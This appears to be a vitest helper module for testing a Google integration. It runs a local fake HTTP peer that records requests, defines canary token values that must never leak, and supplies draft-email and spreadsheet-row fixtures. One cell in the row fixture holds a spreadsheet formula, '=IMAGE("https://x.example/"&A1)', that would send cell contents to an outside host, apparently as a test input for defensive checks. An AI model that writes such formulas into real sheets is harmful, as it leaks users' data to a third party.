import { createServer } from 'node:http';
import type { IncomingHttpHeaders, ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { onTestFinished } from 'vitest';
import type { Google } from '#server/ports/google.ts';
import { createGoogle } from '#server/integrations/google/google.ts';

/** In no error, no log and no address may any of these turn up. */
export const canaries = {
	accessToken: 'ya29.canary-access',
	refreshToken: '1//canary-refresh',
	clientSecret: 'GOCSPX-canary',
	code: '4/canary-code',
	codeVerifier: 'canary-verifier'
};

export type Received = {
	method: string;
	path: string;
	query: URLSearchParams;
	headers: IncomingHttpHeaders;
	body: string;
};
export type Behaviour = (response: ServerResponse, request: Received) => unknown;

export function sendJson(status: number, body: unknown, headers: Record<string, string> = {}): Behaviour {
	return (response) =>
		response
			.writeHead(status, { 'content-type': 'application/json; charset=UTF-8', ...headers })
			.end(JSON.stringify(body));
}

/** A peer that behaves as told and remembers what reached it; and Google's client, pointed at it. */
export async function googleAt(
	behave: Behaviour,
	limits?: { timeoutMs?: number; maxAnswerBytes?: number }
): Promise<{ google: Google; url: string; requests: Received[]; stop: () => Promise<void> }> {
	const requests: Received[] = [];
	const server = createServer((request, response) => {
		const chunks: Buffer[] = [];
		request.on('data', (chunk: Buffer) => chunks.push(chunk));
		request.on('end', () => {
			const { pathname, searchParams } = new URL(request.url ?? '/', 'http://peer');
			const { method = '', headers } = request;
			const body = Buffer.concat(chunks).toString('utf8');
			const received = { method, path: pathname, query: searchParams, headers, body };
			requests.push(received);
			behave(response, received);
		});
	});
	await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
	const stop = async () => {
		server.closeAllConnections();
		await new Promise((resolve) => server.close(resolve));
	};
	onTestFinished(stop);
	const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
	return { google: clientOf(url, limits), url, requests, stop };
}

function clientOf(url: string, limits: { timeoutMs?: number; maxAnswerBytes?: number } = {}): Google {
	const endpoints = {
		authorize: `${url}/authorize`,
		token: `${url}/token`,
		revoke: `${url}/revoke`,
		issuer: url,
		gmail: url,
		sheets: url,
		calendar: url,
		mail: url,
		docs: url
	};
	const { clientSecret } = canaries;
	return createGoogle(
		{ clientId: 'client-1', clientSecret, sandbox: true, endpoints },
		{ timeoutMs: 5_000, maxAnswerBytes: 100_000, ...limits }
	);
}

export const aDraft = {
	messageId: '<action-1@agentforce.example>',
	to: ['Priya Shah <priya@harbour.example>'],
	cc: [],
	bcc: [],
	subject: 'Your order',
	body: 'Hello Priya,\nit is on its way.',
	inReplyTo: null,
	threadId: null
};

export const aRow = {
	spreadsheetId: 'sheet-1',
	sheetId: 7,
	metadataId: 1234567,
	metadataValue: 'action-1',
	cells: ['2026-11-23', '=IMAGE("https://x.example/"&A1)', '']
};
